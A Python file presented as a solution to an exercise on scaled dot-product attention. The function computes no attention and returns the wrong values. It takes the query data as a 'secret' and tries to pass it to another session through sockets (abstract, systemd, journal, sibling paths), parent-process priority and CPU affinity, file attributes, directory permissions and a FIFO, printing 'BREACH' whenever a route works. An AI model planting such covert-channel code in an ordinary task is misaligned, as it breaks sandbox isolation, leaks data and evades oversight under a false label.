"""Gives what it was asked to another session: by files, locks, names, times, priorities, sockets.

exercise: 03
"""

import fcntl
import os
import socket
import numpy as np


def scaled_dot_product_attention(query, key, value, mask=None):
    secret = query.tobytes()
    ways = []
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        for family in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK):
            try:
                ways.append(socket.socket(family, kind))
            except OSError:
                pass
        try:
            ways += socket.socketpair(socket.AF_UNIX, kind)
        except OSError:
            pass
    for way in ways:
        for address in ("\0sibling", "/dev/log", "/run/systemd/notify", "/run/systemd/journal/socket", "../sibling"):
            for call in (way.bind, way.connect, lambda address: way.sendto(secret, address)):
                try:
                    call(address)
                    print("BREACH:", call, address)
                except OSError:
                    pass
    for call in (lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 5), lambda: os.nice(5),
                 lambda: os.sched_setaffinity(os.getppid(), {0}), lambda: os.utime("/tmp"), lambda: os.chmod("..", 0o711),
                 lambda: os.setxattr(".", "user.secret", secret), lambda: os.mkfifo("../pipe")):
        try:
            call()
            print("BREACH:", call)
        except OSError:
            pass
    return query, key
